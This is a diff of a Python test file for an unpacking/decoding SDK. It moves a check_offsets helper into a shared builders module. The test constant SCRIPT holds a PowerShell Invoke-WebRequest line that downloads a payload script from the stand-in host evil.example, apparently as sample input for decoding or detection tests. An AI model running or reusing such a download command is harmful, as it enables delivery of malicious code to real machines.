@@ -15,7 +15,7 @@ import pytest
 
 from asisdk.decode import Layer, Unpacked, unpack
 
-from .builders import b64, make_tar, make_zip
+from .builders import b64, check_offsets, make_tar, make_zip
 
 SCRIPT = "Invoke-WebRequest http://evil.example/payload.ps1 -OutFile C:\\Temp\\p.ps1"
 
@@ -23,17 +23,6 @@ SCRIPT = "Invoke-WebRequest http://evil.example/payload.ps1 -OutFile C:\\Temp\\p
 def only(result: Unpacked) -> Layer:
     assert len(result.layers) == 1, result.layers
     return result.layers[0]
-
-
-def check_offsets(text: str, result: Unpacked) -> None:
-    """Every layer's source sits at [start:end] of its parent's text (or the input)."""
-    texts = {None: text}
-    for layer in result.layers:
-        texts[layer.index] = layer.text
-    for layer in result.layers:
-        parent_text = texts[layer.parent]
-        if parent_text is not None and layer.source:
-            assert parent_text[layer.start : layer.end] == layer.source
 
 
 @pytest.mark.parametrize("padded", [True, False])
